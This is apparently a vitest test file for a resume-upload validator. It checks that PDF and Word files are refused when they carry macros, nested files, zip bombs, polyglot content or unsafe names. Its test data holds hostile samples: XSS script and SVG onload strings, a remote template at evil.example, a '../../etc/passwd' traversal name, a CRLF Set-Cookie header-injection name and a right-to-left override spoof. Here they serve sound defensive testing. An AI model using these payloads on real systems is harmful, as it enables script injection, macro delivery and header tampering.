import { expect, test } from "vitest";
import { aCompoundFile, aDocx, aPdf, aZipBomb } from "#test/uploads.ts";
import { documentRefusal } from "./documents.server.ts";
import { attachmentHeader, resumeTypeOf, safeFileName } from "./rules.ts";

const NOT_PDF = /not a PDF/;
const NOT_WORD = /not a Word document/;
const MACROS = /contains macros/;
const NESTED = /contains other files/;
const TOO_MUCH = /larger than it looks, or damaged/;
const OUTSIDE = /loads something from elsewhere/;
const MEGABYTE = 1024 * 1024;

test("what people write their resumes with is accepted", async () => {
  expect(await documentRefusal("pdf", aPdf())).toBeNull();
  expect(
    await documentRefusal("doc", aCompoundFile(["WordDocument", "1Table", "\u0005SummaryInformation"])),
  ).toBeNull();
  const link = `<Relationships><Relationship Id="1" Type="http://x/relationships/hyperlink" Target="https://me.example" TargetMode="External"/></Relationships>`;
  expect(await documentRefusal("docx", aDocx({ "word/_rels/document.xml.rels": link }))).toBeNull();
});

test.each([
  ["html", Buffer.from("<html><script>alert(1)</script></html>")],
  ["html before the header", Buffer.concat([Buffer.from("<script>alert(1)</script>"), aPdf()])],
  ["a program", Buffer.from("MZ\u0090\u0000")],
  ["xml", Buffer.from('<?xml version="1.0"?><svg onload="alert(1)"/>')],
  ["a zip behind the end", Buffer.concat([aPdf(), aDocx()])],
  ["half a file", aPdf().subarray(0, 12)],
  ["nothing", Buffer.alloc(0)],
])("%s is no pdf", async (_, bytes) => {
  expect(await documentRefusal("pdf", bytes)).toMatch(NOT_PDF);
});

test.each([
  ["an installer", aCompoundFile(["䡀㬿䏲䐸䖱", "\u0005SummaryInformation"]), NOT_WORD],
  ["a spreadsheet", aCompoundFile(["Workbook"]), NOT_WORD],
  ["a pdf", aPdf(), NOT_WORD],
  ["a docx", aDocx(), NOT_WORD],
  ["a doc with macros", aCompoundFile(["WordDocument", "Macros", "VBA"]), MACROS],
  ["a doc with a file inside", aCompoundFile(["WordDocument", "ObjectPool"]), NESTED],
])("%s is refused as .doc", async (_, bytes, reason) => {
  expect(await documentRefusal("doc", bytes)).toMatch(reason);
});

test("a compound file whose chain runs in circles, or out of the file, is refused and ends", async () => {
  const circle = aCompoundFile(["WordDocument"]);
  circle.writeUInt32LE(1, 512 + 4);
  expect(await documentRefusal("doc", circle)).toMatch(NOT_WORD);
  const away = aCompoundFile(["WordDocument"]);
  away.writeUInt32LE(900_000, 48);
  expect(await documentRefusal("doc", away)).toMatch(NOT_WORD);
});

const TEMPLATE = `<Relationships><Relationship Id="1" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
const MACRO_TYPES = `<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`;

test.each([
  ["vbaProject.bin", aDocx({ "word/vbaProject.bin": "x" }), MACROS],
  ["the content type of a docm", aDocx({ "[Content_Types].xml": MACRO_TYPES }), MACROS],
  ["a template from elsewhere", aDocx({ "word/_rels/settings.xml.rels": TEMPLATE }), OUTSIDE],
  ["an embedded file", aDocx({ "word/embeddings/a.xlsx": "x" }), NESTED],
  ["a zip inside", aDocx({ "word/media/a.png": aDocx() }), NESTED],
  ["a path out of the archive", aDocx({ "../evil": "x" }), TOO_MUCH],
  ["a spreadsheet's content", aDocx({ "[Content_Types].xml": "<Types/>" }), NOT_WORD],
  ["something in front", Buffer.concat([Buffer.from("<html>"), aDocx()]), NOT_WORD],
  ["something behind", Buffer.concat([aDocx(), Buffer.from("tail")]), TOO_MUCH],
  ["html", Buffer.from("<html></html>"), NOT_WORD],
])("a docx with %s is refused", async (_, bytes, reason) => {
  expect(await documentRefusal("docx", bytes)).toMatch(reason);
});

test("a small file that would unpack to 300 MB is refused before it is unpacked", async () => {
  const bomb = aZipBomb(300 * MEGABYTE);
  expect(bomb.length).toBeLessThan(400_000);
  const [startedAt, before] = [performance.now(), process.memoryUsage().rss];
  expect(await documentRefusal("docx", bomb)).toMatch(TOO_MUCH);
  expect(performance.now() - startedAt).toBeLessThan(1000);
  expect(process.memoryUsage().rss - before).toBeLessThan(100 * MEGABYTE);
});

test("a file that lies about its size is found out without unpacking more than it said", async () => {
  expect(await documentRefusal("docx", aZipBomb(300 * MEGABYTE, 1000))).toMatch(TOO_MUCH);
  expect(await documentRefusal("docx", aZipBomb(1000, 5000))).toMatch(TOO_MUCH);
});

test("a hundred thousand files are too many", async () => {
  const many = Object.fromEntries(Array.from({ length: 60_000 }, (_, n) => [`word/${n}`, ""]));
  expect(await documentRefusal("docx", aDocx(many))).toMatch(TOO_MUCH);
});

test.each([
  ["cv.pdf", "pdf"],
  ["CV.PDF ", "pdf"],
  ["my.cv.2026.docx", "docx"],
  ["cv.exe.pdf", null],
  ["cv.html.doc", null],
  ["cv.pdf.exe", null],
  ["cv.docm", null],
  ["cv", null],
  ["", null],
])("%s is %s", (name, type) => {
  expect(resumeTypeOf(name)).toBe(type);
});

test.each([
  ["../../etc/passwd.pdf", "passwd.pdf"],
  ['a"\r\nSet-Cookie: x=1.pdf', "a Set-Cookie x=1.pdf"],
  ["C:\\Users\\Zoë\\Lebenslauf Zoë.pdf", "Lebenslauf Zoë.pdf"],
  ["fdp\u202Excod.pdf", "fdp xcod.pdf"],
  [".pdf", "resume.pdf"],
  [`${"x".repeat(500)}.pdf`, `${"x".repeat(80)}.pdf`],
])("the name %s is kept as %s", (typed, kept) => {
  expect(safeFileName(typed, "pdf")).toBe(kept);
});

test("a name of nothing but dots or accents is cut before it is read", () => {
  const startedAt = performance.now();
  expect(safeFileName(`a${".".repeat(64_000)}b.pdf`, "pdf")).toBe("a.pdf");
  expect(safeFileName(`a${"\u0301\u0316".repeat(32_000)}.pdf`, "pdf")).toHaveLength("a.pdf".length + 79);
  expect(performance.now() - startedAt).toBeLessThan(1_000);
});

test("a name in a header is one line, quoted, and says the same in both forms", () => {
  expect(attachmentHeader("Lebenslauf Zoë's.pdf")).toBe(
    "attachment; filename=\"Lebenslauf Zo_'s.pdf\"; filename*=UTF-8''Lebenslauf%20Zo%C3%AB%27s.pdf",
  );
});
